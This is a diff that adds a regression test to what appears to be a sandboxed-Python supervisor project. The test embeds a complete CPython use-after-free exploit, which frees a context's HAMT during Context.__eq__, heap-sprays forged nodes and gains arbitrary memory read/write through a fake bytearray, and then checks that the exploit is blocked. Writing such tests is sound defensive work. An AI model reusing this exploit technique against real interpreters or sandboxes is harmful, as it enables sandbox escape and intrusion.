@@ -1298,6 +1298,77 @@ Test(pylayer, a_decimal_comparison_keeps_its_context)
 	e2e_stop();
 }
 
+/* Context.__eq__ walks the first context's map borrowed and compares the values by their
+ * __eq__: a decimal Context subclass's __eq__ set another decimal context inside c1.run(),
+ * which replaced c1's map and freed the one being walked (fake nodes laid in its memory led
+ * the walk to a fake bytearray over all memory). The comparison holds both maps. */
+Test(pylayer, a_context_comparison_holds_both_maps)
+{
+	e2e_start(NULL);
+	e2e_expect_result(
+	    "# default mode: Context.__eq__ (_PyHamt_Eq) walks the first Context's HAMT with "
+	    "borrowed node\n"
+	    "# pointers and compares values by the code's __eq__; decimal.setcontext() there, "
+	    "while that\n"
+	    "# Context is the running one (Context.run), frees the HAMT under the walk. The code "
+	    "refills the\n"
+	    "# freed node with a fake node that leads the walk to a fake value: a "
+	    "bytearray-subclass object\n"
+	    "# of size 2**62 over address 0, handed to the code's __eq__ as self -> arbitrary "
+	    "read/write.\n"
+	    "import asyncio, decimal, struct, array\n"
+	    "P = lambda *a: struct.pack('<%dQ' % len(a), *a)\n"
+	    "# CPython's static types sit at fixed offsets from int's type in this non-PIE binary\n"
+	    "# (nm build/supervisor/safepy-zygote: PyLong_Type a43700, _PyHamt_ArrayNode_Type "
+	    "a50680,\n"
+	    "# _PyHamt_BitmapNode_Type a504e0)\n"
+	    "ARRAY_NODE = id(int) + (0xa50680 - 0xa43700)\n"
+	    "BITMAP_NODE = id(int) + (0xa504e0 - 0xa43700)\n"
+	    "grab = []\n"
+	    "class C(bytearray):\n"
+	    "    __slots__ = ()\n"
+	    "    def __eq__(self, other):\n"
+	    "        if not grab:\n"
+	    "            grab.append(self)\n"
+	    "        return False\n"
+	    "    __hash__ = None\n"
+	    "loop = asyncio.new_event_loop()\n"
+	    "armed = [1]\n"
+	    "spray = [None] * 256\n"
+	    "class MyCtx(decimal.Context):\n"
+	    "    def __eq__(self, other):\n"
+	    "        if armed and armed.pop():\n"
+	    "            decimal.setcontext(decimal.Context())     # frees the HAMT being walked\n"
+	    "            for i in range(256):\n"
+	    "                spray[i] = array.array('B', SPRAY)    # 57 items: a 63-byte buffer, "
+	    "the freed node's 64-byte block\n"
+	    "        return True\n"
+	    "    __hash__ = object.__hash__\n"
+	    "A, B = MyCtx(), MyCtx()\n"
+	    "decimal.setcontext(A)\n"
+	    "c1 = loop.call_soon(lambda: None)._context\n"
+	    "decimal.setcontext(B)\n"
+	    "c2 = loop.call_soon(lambda: None)._context\n"
+	    "decimal.setcontext(decimal.Context())\n"
+	    "var = next(iter(c2.keys()))                           # decimal's ContextVar, found "
+	    "in c2\n"
+	    "FBB = bytes(16) + P(1 << 40, id(C), 1 << 62, 1 << 62, 0, 0, 0)\n"
+	    "FB = id(FBB) + 32 + 16                                # fake bytearray-subclass "
+	    "object\n"
+	    "NB = P(1 << 40, BITMAP_NODE, 2, 0, id(var), FB)       # fake bitmap node: (var, "
+	    "fake)\n"
+	    "NODE2 = id(NB) + 32\n"
+	    "# the freed 64-byte node block (GC head, then the node): an array node whose slot 2 "
+	    "leads to NODE2\n"
+	    "SPRAY = (P(0, 0, 1 << 40, ARRAY_NODE, 0, 0, NODE2, 0))[:57]\n"
+	    "r = [c1.run(lambda: c1 == c2), len(grab)]\n"
+	    "x = next(iter(c1.values()))\n"
+	    "r.append(type(x).__name__)\n"
+	    "r\n",
+	    "[true,0,\"Context\"]");
+	e2e_stop();
+}
+
 /* ElementTree's C accelerator read freed memory when a comparison of the user's emptied the
  * element it searched (find with a str whose __eq__ clears it, remove with an element whose
  * __eq__ does): the worker crashed. The module's own Python elements do the same work. */
